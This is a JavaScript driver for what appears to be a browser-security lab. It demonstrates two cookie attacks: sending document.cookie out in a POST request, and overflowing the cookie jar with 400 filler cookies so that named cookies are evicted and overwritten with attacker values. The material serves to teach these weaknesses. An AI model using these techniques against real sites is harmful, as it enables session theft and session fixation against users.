// Runs in the lab's window, on all three names. A page says by data attributes
// what is to be done on it; then this goes on by its one link or form.

const { act, pace, wait, hand, names } = document.body.dataset;
const FILLERS = 400;

const ACTS = {
  /** What a bad script can do with the cookies of the page that it runs on. */
  async read() {
    await fetch("script", { method: "POST", body: document.cookie });
    await fetch("ride");
  },

  /** A jar has room for some 180 cookies of one site: the older ones go. */
  async flood() {
    const flags = `Path=/; Max-Age=600${(await keepsSecure()) ? "; Secure" : ""}`;
    for (let at = 1; at <= FILLERS; at += 1) {
      setCookie(`filler-${at}=1; ${flags}`);
    }
    for (const name of names.split(" ")) {
      setCookie(`${name}=EVIL; ${flags}`);
    }
    // Written last, so the others have been written when it can be read.
    setCookie(`filler-last=1; ${flags}`);
    await settled((jar) => jar.includes("filler-last=1"));
  },

  async sweep() {
    const left = document.cookie.match(/filler-\w+(?==)/g) ?? [];
    for (const name of left) {
      setCookie(`${name}=; Path=/; Max-Age=0`);
      setCookie(`${name}=; Path=/; Max-Age=0; Secure`);
    }
    await settled((jar) => !jar.includes("filler-"));
  },

  async wait() {
    const left = document.querySelector("[data-left]");
    const until = Date.now() + Number(wait) * 1_000;
    while (Date.now() < until) {
      const sec = Math.ceil((until - Date.now()) / 1_000);
      left.textContent = `${sec} s to go.`;
      await later(250);
    }
    left.textContent = "";
  },
};

/** As `document.cookie = line` does. */
function setCookie(line) {
  Object.assign(document, { cookie: line });
}

async function keepsSecure() {
  setCookie("filler-0=1; Path=/; Secure");
  await settled((jar) => jar.includes("filler-0=1"));
  return document.cookie.includes("filler-0=1");
}

/** Browsers write in their own time, and leaving the page would stop them. */
async function settled(isSo) {
  for (let turn = 0; turn < 50 && !isSo(document.cookie); turn += 1) {
    await later(20);
  }
}

function later(ms) {
  return new Promise((done) => setTimeout(done, ms));
}

await ACTS[act]?.();
const onward = document.querySelector("[data-onward]");
if (onward === null) {
  await later(Number(pace));
  window.close();
} else if (hand === undefined) {
  await later(Number(pace));
  onward.click();
} else {
  onward.focus();
}
